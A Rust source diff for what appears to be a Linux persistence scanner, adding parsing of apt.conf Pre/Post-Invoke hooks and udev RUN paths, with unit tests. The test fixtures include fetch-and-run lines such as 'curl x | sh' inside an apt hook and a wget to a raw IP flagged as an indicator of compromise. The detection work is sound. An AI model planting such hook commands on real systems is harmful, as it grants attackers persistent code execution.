@@ -343,7 +343,14 @@ impl<'a> Ctx<'a> {
                     it.flag(f);
                 }
             }
-            self.follow(&mut it, &super::payload::programs(c));
+            let mut programs = super::payload::programs(c);
+            // udev finds a relative RUN program in its own lib dir.
+            if it.mechanism == "udev-rule"
+                && let Some(w) = c.split_whitespace().next().filter(|w| !w.starts_with('/'))
+            {
+                programs.push(format!("/usr/lib/udev/{w}"));
+            }
+            self.follow(&mut it, &programs);
             it.command = Some(crate::sanitize::escape(c.trim()));
         }
         self.items.push(it);
@@ -703,27 +710,64 @@ fn listed(c: &mut Ctx, m: &Mechanism, host: &Path, runs: Runs) {
     for f in file_entries(c, host) {
         let Some(data) = c.read(&f) else { continue };
         let base = c.item(m.id, m.attack, &f, Some(&data));
-        for l in lines(&data) {
-            if let Some(cmd) = pick(runs, l) {
-                let mut it = base.clone();
-                if let Runs::Keyword(_) = runs {
-                    // The key says what the value is (`fsmonitor`, `ProxyCommand`).
-                    it.detail = l
-                        .split(|ch: char| ch.is_whitespace() || ch == '=')
-                        .next()
-                        .map(str::to_owned);
-                }
-                if let Runs::Module = runs
-                    && !l.starts_with("install ")
-                    && it.package.as_deref() != Some("intact")
-                    && c.module_unpackaged(&cmd)
-                {
-                    it.flag("unpackaged_module");
-                }
-                c.push(it, Some(&cmd));
+        let entries: Vec<(String, String)> = match runs {
+            // apt.conf statements span lines (`Pre-Invoke {` ⏎ `"cmd";` ⏎ `};`).
+            Runs::AptInvoke => apt_hooks(&String::from_utf8_lossy(&data))
+                .into_iter()
+                .map(|cmd| (cmd.clone(), cmd))
+                .collect(),
+            _ => lines(&data)
+                .filter_map(|l| pick(runs, l).map(|cmd| (l.to_string(), cmd)))
+                .collect(),
+        };
+        for (l, cmd) in entries {
+            let mut it = base.clone();
+            if let Runs::Keyword(_) = runs {
+                // The key says what the value is (`fsmonitor`, `ProxyCommand`).
+                it.detail = l
+                    .split(|ch: char| ch.is_whitespace() || ch == '=')
+                    .next()
+                    .map(str::to_owned);
             }
+            if let Runs::Module = runs
+                && !l.starts_with("install ")
+                && it.package.as_deref() != Some("intact")
+                && c.module_unpackaged(&cmd)
+            {
+                it.flag("unpackaged_module");
+            }
+            c.push(it, Some(&cmd));
         }
     }
+}
+
+/// The commands of apt.conf hooks (`APT::Update::Pre-Invoke`,
+/// `DPkg::Post-Invoke`, `DPkg::Pre-Install-Pkgs`...), in the block form
+/// over any number of lines or the `Key:: "cmd";` form.
+pub fn apt_hooks(text: &str) -> Vec<String> {
+    static HOOK: OnceLock<Regex> = OnceLock::new();
+    static QUOTED: OnceLock<Regex> = OnceLock::new();
+    let flat: String = text
+        .lines()
+        .map(str::trim)
+        .filter(|l| !l.starts_with("//") && !l.starts_with('#'))
+        .collect::<Vec<_>>()
+        .join(" ");
+    let hook = re(
+        &HOOK,
+        r#"(?i)[\w:-]*(Invoke|Install-Pkgs)[\w:-]*\s*(\{[^}]*\}|"[^"]*")"#,
+    );
+    let quoted = re(&QUOTED, r#""([^"]*)""#);
+    hook.captures_iter(&flat)
+        .flat_map(|c| {
+            let body = c.get(2).map_or("", |m| m.as_str()).to_string();
+            quoted
+                .captures_iter(&body)
+                .filter_map(|q| q.get(1).map(|m| m.as_str().to_string()))
+                .collect::<Vec<_>>()
+        })
+        .filter(|cmd| !cmd.trim().is_empty())
+        .collect()
 }
 
 /// The program a line names, if it names one.
@@ -1397,6 +1441,18 @@ mod tests {
         assert!(text_flags("/home/u/.hidden/run").contains(&"runs_from_tmp"));
         assert!(text_flags("/usr/bin/node /home/u/.local/lib/openclaw.mjs gateway").is_empty());
         assert!(text_flags("wget http://91.92.242.30/x").contains(&"ioc"));
+    }
+
+    #[test]
+    fn apt_hooks_in_every_form() {
+        let debian = "// x\nAPT::Update::Pre-Invoke {\n  \"curl x | sh\";\n};\n";
+        assert_eq!(apt_hooks(debian), ["curl x | sh"]);
+        assert_eq!(apt_hooks(r#"DPkg::Post-Invoke {"a"; "b";};"#), ["a", "b"]);
+        assert_eq!(
+            apt_hooks(r#"APT::Update::Post-Invoke-Success:: "c";"#),
+            ["c"]
+        );
+        assert!(apt_hooks(r#"APT::Periodic::Update-Package-Lists "1";"#).is_empty());
     }
 
     #[test]
